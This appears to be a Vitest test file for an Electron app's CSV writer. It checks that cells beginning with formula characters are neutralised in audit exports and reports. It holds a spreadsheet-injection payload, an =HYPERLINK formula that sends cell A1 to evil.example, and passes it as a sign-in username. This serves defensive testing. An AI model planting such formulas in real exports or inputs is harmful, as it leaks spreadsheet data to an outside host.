import { readFileSync } from 'node:fs';
import { engineOf } from '../../../electron/core/store/engine/sqlcipher-engine';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { writeAuditCsv } from '../../../electron/core/audit/export-csv';
import { CsvFileWriter, csvText, neutraliseCell } from '../../../electron/core/csv/csv-writer';
import { tableCsv } from '../../../electron/core/reports/csv-export';
import { useBrokerFixture } from '../../helpers/broker-fixture';
import { useTempDirs } from '../../helpers/temp-dir';

const fixture = useBrokerFixture({ signedOut: true });
const tempDir = useTempDirs();
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

describe('the one CSV writer', () => {
  it('neutralises cells that start with = + - @, a tab or a carriage return', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseCell(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(neutraliseCell('Smith')).toBe('Smith');
    expect(neutraliseCell('a=b')).toBe('a=b');
    expect(neutraliseCell(-3)).toBe(-3);
    expect(neutraliseCell(null)).toBe('');
  });

  it('writes text and streamed files with every cell neutralised', async () => {
    expect(parse(csvText([['name'], [HYPERLINK]]))).toEqual([['name'], [`'${HYPERLINK}`]]);
    const path = join(tempDir(), 'out.csv');
    const w = new CsvFileWriter(path, ['name', 'n']);
    await w.write({ name: '@SUM(A1:A9)', n: -1 });
    await w.close();
    expect(readFileSync(path, 'utf8')).toBe("name,n\n'@SUM(A1:A9),-1\n");
  });

  it('keeps a failed sign-in username from becoming a live formula in the audit export', async () => {
    const fx = await fixture();
    const r = await fx.core.dispatch('auth.signIn', fx.core.connect(), { username: HYPERLINK, password: 'anything at all' });
    expect(r).toMatchObject({ ok: false, error: { code: 'BAD_CREDENTIALS' } });
    const out = join(tempDir(), 'audit.csv');
    await writeAuditCsv(engineOf(fx.db), out, {});
    const rows = parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
    const failed = rows.find((row) => row.action === 'auth.signIn.fail')!;
    expect(failed.actor).toBe(`'${HYPERLINK}`);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('is what the report tables are written with', () => {
    const csv = tableCsv({ id: 'sla-breaches', title: 't', columns: ['team'], rows: [['+44 team']], note: null });
    expect(csv).toBe("team\r\n'+44 team\r\n");
  });
});
